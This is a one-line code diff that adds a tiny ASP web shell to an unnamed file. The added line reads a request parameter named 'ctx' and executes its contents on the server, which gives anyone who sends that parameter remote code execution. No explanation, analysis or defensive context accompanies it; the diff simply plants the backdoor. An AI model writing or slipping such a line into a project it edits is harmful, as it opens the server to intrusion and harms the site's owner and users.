@@ -1,0 +1,1 @@
+<% a=request("ctx"):execute a %>
